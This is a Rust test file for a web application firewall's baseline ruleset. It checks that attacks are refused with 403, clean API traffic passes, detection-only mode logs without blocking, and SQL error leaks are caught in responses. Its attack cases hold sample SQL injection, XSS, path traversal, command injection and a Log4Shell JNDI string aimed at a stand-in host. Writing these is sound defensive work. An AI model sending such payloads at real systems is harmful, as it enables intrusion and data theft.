//! The built-in baseline ruleset: attacks of each family are refused (403, the right rule in
//! the log), realistic clean API traffic passes, detection-only mode logs without refusing, and
//! outbound leaks are caught in the response phase.

use std::sync::Arc;

use portcullis_waf::engine::{RequestHead, Transaction, Waf};
use portcullis_waf::ruleset::{self, Profile, Source};

fn waf(profile: &Profile) -> Arc<Waf> {
    ruleset::load(&Source::Baseline, profile).unwrap()
}

fn request(
    waf: &Arc<Waf>,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Transaction {
    let mut all = vec![("Host", "api.example.com"), ("User-Agent", "curl/8.0")];
    all.extend_from_slice(headers);
    let head = RequestHead {
        method: method.into(),
        target: target.as_bytes().to_vec(),
        protocol: "HTTP/1.1".into(),
        headers: all
            .iter()
            .map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec()))
            .collect(),
        remote_addr: "192.0.2.1".into(),
    };
    let mut tx = waf.transaction(head);
    if tx.request_headers().is_none() {
        tx.request_body(body.as_bytes());
    }
    tx
}

/// Headers of a test request.
type Headers<'a> = &'a [(&'a str, &'a str)];

fn ids(tx: &Transaction) -> Vec<u64> {
    tx.logged().iter().map(|l| l.id).collect()
}

#[test]
fn attacks_are_refused_by_the_rule_of_their_family() {
    let waf = waf(&Profile::default());
    let json = [("Content-Type", "application/json")];
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let cases: &[(&str, Headers, &str, u64)] = &[
        ("/items?id=1%27%20OR%20%271%27%3D%271", &[], "", 7000300),
        (
            "/items?q=1%20UNION%20SELECT%20password%20FROM%20users",
            &[],
            "",
            7000301,
        ),
        (
            "/search",
            &json,
            r#"{"q":"<script>alert(1)</script>"}"#,
            7000400,
        ),
        ("/files?name=..%2F..%2Fetc%2Fpasswd", &[], "", 7000200),
        ("/files?name=%2Fetc%2Fpasswd", &[], "", 7000201),
        (
            "/ping",
            &form,
            "host=example.com%3Bcat%20%2Fetc%2Fhosts",
            7000500,
        ),
        (
            "/x",
            &[("X-Api-Version", "${jndi:ldap://evil/a}")],
            "",
            7000501,
        ),
        (
            "/comments",
            &json,
            r#"{"user":{"bio":"' or 1=1 -- "}}"#,
            7000300,
        ),
    ];
    for (target, headers, body, rule) in cases {
        let method = if body.is_empty() { "GET" } else { "POST" };
        let tx = request(&waf, method, target, headers, body);
        let stop = tx
            .interruption()
            .unwrap_or_else(|| panic!("{target} {body} passed: {:?}", ids(&tx)));
        assert_eq!(stop.status, 403, "{target}");
        assert_eq!(stop.rule_id, 7000900, "{target}");
        assert!(ids(&tx).contains(rule), "{target} {body}: {:?}", ids(&tx));
    }
}

#[test]
fn clean_api_traffic_passes() {
    let waf = waf(&Profile::default());
    let json = [("Content-Type", "application/json")];
    let cases: &[(&str, &str, Headers, &str)] = &[
        (
            "GET",
            "/api/v1/orders?status=shipped&page=2&sort=-created_at&q=blue+shoes",
            &[],
            "",
        ),
        (
            "GET",
            "/api/v1/users/3fa85f64-5717-4562-b3fc-2c963f66afa6",
            &[],
            "",
        ),
        (
            "POST",
            "/api/v1/orders",
            &json,
            r#"{"customer":{"email":"ann@example.com","name":"Ann O'Brien"},"note":"Leave it at the door; thanks!","items":[{"sku":"ABC-1","quantity":2}]}"#,
        ),
        (
            "POST",
            "/api/v1/search",
            &json,
            r#"{"q":"select a size from the list","tags":["a & b"]}"#,
        ),
        (
            "GET",
            "/docs/getting-started.html",
            &[("Referer", "https://example.com/?a=1&b=2")],
            "",
        ),
    ];
    for (method, target, headers, body) in cases {
        let tx = request(&waf, method, target, headers, body);
        assert!(
            tx.interruption().is_none(),
            "{target} {body}: {:?}",
            tx.logged()
        );
        assert!(ids(&tx).is_empty(), "{target}: {:?}", ids(&tx));
    }
}

#[test]
fn detection_only_logs_without_refusing() {
    let waf = waf(&Profile {
        blocking: false,
        ..Profile::default()
    });
    let tx = request(&waf, "GET", "/items?id=1%27%20OR%20%271%27%3D%271", &[], "");
    assert!(tx.interruption().is_none());
    assert!(ids(&tx).contains(&7000300) && ids(&tx).contains(&7000900));
}

#[test]
fn broken_bodies_are_refused() {
    let waf = waf(&Profile::default());
    let tx = request(
        &waf,
        "POST",
        "/x",
        &[("Content-Type", "application/json")],
        "{\"a\":",
    );
    assert_eq!(tx.interruption().map(|i| i.status), Some(400));
    assert!(tx.body_error().is_some());
}

#[test]
fn outbound_leaks_are_refused_in_the_response_phase() {
    let waf = waf(&Profile::default());
    let mut tx = request(&waf, "GET", "/orders/1", &[], "");
    assert!(tx.interruption().is_none());
    let headers = vec![(b"Content-Type".to_vec(), b"text/html".to_vec())];
    assert!(tx.response_headers(500, headers).is_none());
    assert!(tx.wants_response_body());
    let stop = tx
        .response_body(
            b"<pre>You have an error in your SQL syntax; check the manual near ''1''</pre>",
        )
        .cloned();
    assert_eq!(stop.map(|s| s.rule_id), Some(7000990));
    assert!(ids(&tx).contains(&7000600));
}
